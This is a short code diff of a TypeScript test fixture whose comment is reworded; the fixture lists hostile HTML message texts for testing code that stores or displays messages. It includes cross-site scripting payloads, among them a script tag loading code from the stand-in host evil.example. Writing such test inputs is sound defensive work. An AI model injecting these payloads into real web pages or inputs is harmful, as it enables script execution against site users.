@@ -1,4 +1,4 @@
-/** Message texts that somebody might try, for the tests of everything that keeps or shows them. */
+/** Message texts that an attacker might try, for the tests of everything that stores or shows them. */
 export const hostileHtml: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
